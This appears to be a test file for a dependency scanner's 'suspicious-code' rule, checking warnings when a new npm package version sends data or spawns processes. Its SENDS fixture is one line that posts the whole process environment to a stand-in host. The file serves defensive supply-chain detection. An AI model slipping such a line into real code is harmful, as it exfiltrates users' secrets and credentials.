import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { createSession } from '../../../../server/src/engine/create-session.ts';
import type { CacheRecord } from '../../../../server/src/engine/ports.ts';
import { DEFAULT_SETTINGS } from '../../../../server/src/engine/settings.ts';
import { openFiles, ROOT, TEST_REGISTRY, testPorts } from '../../../workspace.ts';

const RULE = 'suspicious-code';
const CLEAN = `exports.get = () => 1;`;
const SENDS = `${CLEAN}\nfetch('https://collect.example.test', { method: 'POST', body: JSON.stringify(process.env) });`;
const STARTS = `${CLEAN}\nexports.start = () => require('child_process').exec('tool');`;

function lockfile(version: string | undefined, name = 'dayflow'): string {
  const own = {
    [`node_modules/${name}`]: {
      version,
      resolved: `${TEST_REGISTRY}${name}/-/${name}-${version}.tgz`,
      integrity: `sha512-${version}`,
    },
  };
  const packages = { '': { dependencies: { dayflow: '^3.0.0' } }, ...(version === undefined ? {} : own) };
  return JSON.stringify({ lockfileVersion: 3, packages }, undefined, 2);
}

function project(version: string, code: string, name = 'dayflow'): Map<string, string> {
  return new Map([
    ['package.json', '{ "dependencies": { "dayflow": "^3.0.0" } }'],
    ['package-lock.json', lockfile(version, name)],
    [`node_modules/${name}/package.json`, JSON.stringify({ name, version })],
    [`node_modules/${name}/index.js`, code],
  ]);
}

async function said(files: Map<string, string>, base: string | undefined): Promise<readonly string[]> {
  const { findings } = await openFiles(files, { base });
  return findings(RULE).map(
    ({ severity, uri, message }) => `${severity} ${uri.slice(ROOT.length + 1)}: ${message}`,
  );
}

describe('code of a version that the base lacks', () => {
  test('is reported if it is suspicious, where the package is declared', async () => {
    assert.deepEqual(await said(project('3.2.1', SENDS), lockfile(undefined)), [
      'warning package.json: dayflow 3.2.1 has suspicious code: it uses the network when it is loaded (index.js:2) and sends the environment (index.js:2). Read it before you use this version.',
    ]);
  });

  test('is reported in the lockfile for packages that nothing declares', async () => {
    const [found] = await said(project('3.2.1', SENDS, 'inner'), lockfile(undefined));
    assert.match(found!, /^warning package-lock\.json: inner 3\.2\.1 has suspicious code/);
  });

  test('is not reported without a suspicion, nor if the base has the version', async () => {
    assert.deepEqual(await said(project('3.2.1', STARTS), lockfile(undefined)), []);
    assert.deepEqual(await said(project('3.2.1', SENDS), lockfile('3.2.1')), []);
    assert.deepEqual(await said(project('3.2.1', SENDS), undefined), []);
  });

  test('is not taken from a folder of another version', async () => {
    const files = project('3.2.1', SENDS);
    files.set('node_modules/dayflow/package.json', '{ "name": "dayflow", "version": "3.2.0" }');
    assert.deepEqual(await said(files, lockfile(undefined)), []);
  });
});

describe('code that was read in an earlier version', () => {
  /** Opens the project once with each code, with one cache and the lockfile before as the base. */
  async function updated(before: string, after: string): Promise<readonly string[]> {
    const records = new Map<string, CacheRecord>();
    const cache = {
      read: async (key: string) => records.get(key),
      write: async (key: string, record: CacheRecord) => void records.set(key, record),
      confirm: async () => undefined,
    };
    const open = async (files: Map<string, string>, base: string | undefined) => {
      const session = createSession({ ...testPorts(files, { base }), cache });
      session.configure({ ...DEFAULT_SETTINGS, preset: 'all', base: 'HEAD' });
      session.setFolders([ROOT]);
      await session.loadFolder(ROOT);
      return session;
    };
    await open(project('3.2.0', before), lockfile(undefined));
    const session = await open(project('3.2.1', after), lockfile('3.2.0'));
    const { findings: found } = session.snapshot().diagnose(`${ROOT}/package.json`);
    return found
      .filter(({ rule }) => rule === RULE)
      .map(({ severity, message }) => `${severity}: ${message}`);
  }

  test('is a warning with suspicious signs that are new', async () => {
    assert.deepEqual(await updated(CLEAN, SENDS), [
      'warning: dayflow 3.2.1 has suspicious code: it uses the network when it is loaded (index.js:2) and sends the environment (index.js:2), unlike 3.2.0. Read it before you use this version.',
    ]);
  });

  test('is information with a capability that is new', async () => {
    assert.deepEqual(await updated(CLEAN, STARTS), [
      'information: dayflow 3.2.1 can do more than 3.2.0: processes (commands) (index.js:2). Read the changes before you use this version.',
    ]);
  });

  test('is nothing if it did the same before, wherever in the file', async () => {
    assert.deepEqual(await updated(STARTS, `\n\n${STARTS}`), []);
    assert.deepEqual(await updated(SENDS, `${SENDS}\n`), []);
  });
});
